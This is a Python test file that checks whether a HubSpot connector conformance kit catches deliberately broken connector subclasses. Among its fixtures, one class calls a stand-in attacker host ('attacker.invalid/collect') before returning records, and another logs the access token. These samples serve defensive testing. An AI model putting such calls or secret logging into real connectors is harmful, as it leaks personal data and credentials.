"""The conformance kit must fail deliberately broken connectors (a kit that passes everything proves nothing).

Each case breaks the HubSpot connector in one way and runs the kit check that must catch it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from connectors.base import Connector
from connectors.errors import ConnectorError
from connectors.hubspot import HubSpotConnector
from connectors.hubspot.fake import FakeHubSpot
from connectors.hubspot.tests.backend import HubSpotBackend
from connectors.ratelimit import MemoryRateLimiter, set_default_limiter
from connectors.testing import LOCAL_FAKES, ConnectorConformance, Fault, guard_network
from connectors.types import ErasureMethod, ErasureResult, Record, Subject


class IgnoresDryRun(HubSpotConnector):
    def erase(self, subject: Subject) -> ErasureResult:
        self.dry_run = False
        result = super().erase(subject)
        return ErasureResult(found=result.found, erased=0, method=result.method, dry_run=True)


class DeletesByEmail(HubSpotConnector):
    """Skips the search: gdpr-delete by email (blocklists absent people, mutates every time)."""

    def erase(self, subject: Subject) -> ErasureResult:
        found = len(list(self._find(subject, ["email"])))
        if not self.dry_run:
            self.http.post(
                "/crm/v3/objects/contacts/gdpr-delete",
                json={"objectId": subject.email, "idProperty": "email"},
            )
        return ErasureResult(found=found, erased=found, method=ErasureMethod.DELETED, dry_run=self.dry_run)


class CaseSensitive(HubSpotConnector):
    def _is_subject(self, contact: dict[str, Any], email: str) -> bool:
        return bool((contact.get("properties") or {}).get("email") == email)


class MatchesByName(HubSpotConnector):
    def access(self, subject: Subject) -> Iterator[Record]:
        data = self.http.post_json(
            "/crm/v3/objects/contacts/search",
            json={
                "filterGroups": [
                    {"filters": [{"propertyName": "lastname", "operator": "EQ", "value": "Doe"}]}
                ],
                "properties": ["email", "company"],
                "limit": 100,
            },
        )
        for contact in data["results"]:
            yield Record(category="contact", record_id=contact["id"], data=contact["properties"])


class LogsSecrets(HubSpotConnector):
    def check(self) -> Any:
        self.log.debug("using token %s", self.config.access_token.get_secret_value())
        return super().check()


class SwallowsErrors(HubSpotConnector):
    def access(self, subject: Subject) -> Iterator[Record]:
        try:
            yield from list(super().access(subject))
        except ConnectorError:
            return


class FollowsNextLinksAnywhere(HubSpotConnector):
    def access(self, subject: Subject) -> Iterator[Record]:
        import httpx

        httpx.get("http://attacker.invalid/collect", timeout=0.5)
        yield from super().access(subject)


class BrokenBackend(HubSpotBackend):
    def __init__(self, fake: FakeHubSpot, cls: type[HubSpotConnector]) -> None:
        super().__init__(fake)
        self.cls = cls

    def make_connector(self, *, dry_run: bool = False) -> Connector:
        return self.cls(self.config(), dry_run=dry_run, outbound_allow=LOCAL_FAKES)


KIT = ConnectorConformance()


def _with_dataset(check: Callable[..., None]) -> Callable[[BrokenBackend], None]:
    return lambda backend: check(backend, backend.seed_standard_dataset())


CASES: list[tuple[type[HubSpotConnector], Callable[[BrokenBackend], None]]] = [
    (IgnoresDryRun, _with_dataset(KIT.test_dry_run_erase_writes_nothing)),
    (DeletesByEmail, _with_dataset(KIT.test_erase_of_absent_subject_is_a_no_op)),
    (DeletesByEmail, _with_dataset(KIT.test_second_erase_is_a_no_op)),
    (CaseSensitive, _with_dataset(KIT.test_access_finds_target_including_other_case)),
    (MatchesByName, _with_dataset(KIT.test_access_never_returns_a_decoy)),
    (SwallowsErrors, lambda b: KIT.test_rate_limited_maps_to_rate_limited_with_server_delay(b, "access")),
    (
        SwallowsErrors,
        lambda b: KIT.test_server_errors_map_to_transient(b, Fault.SERVICE_UNAVAILABLE, "access"),
    ),
]


@pytest.fixture(autouse=True)
def _fresh_limiter() -> Iterator[None]:
    previous = set_default_limiter(MemoryRateLimiter())
    yield
    set_default_limiter(previous)


@pytest.mark.parametrize(("cls", "check"), CASES, ids=[f"{c.__name__}-{i}" for i, (c, _) in enumerate(CASES)])
def test_kit_fails_broken_connector(
    hubspot_fake: FakeHubSpot, cls: type[HubSpotConnector], check: Callable[[BrokenBackend], None]
) -> None:
    backend = BrokenBackend(hubspot_fake, cls)
    with pytest.raises((AssertionError, pytest.fail.Exception)):
        check(backend)


def test_kit_catches_a_logged_secret(hubspot_fake: FakeHubSpot, caplog: pytest.LogCaptureFixture) -> None:
    backend = BrokenBackend(hubspot_fake, LogsSecrets)
    with pytest.raises(AssertionError, match="secret"):
        KIT.test_no_secret_in_logs_or_errors(backend, caplog)


def test_kit_guard_catches_a_connection_to_another_host(hubspot_fake: FakeHubSpot) -> None:
    backend = BrokenBackend(hubspot_fake, FollowsNextLinksAnywhere)
    connector = backend.make_connector()
    with guard_network(backend.allowed_hosts) as guard, connector, pytest.raises(Exception):  # noqa: B017, PT011 - any error: the kit must fail the broken connector
        list(connector.access(Subject.create(email="a@example.com")))
    assert guard.violations == ["attacker.invalid"]
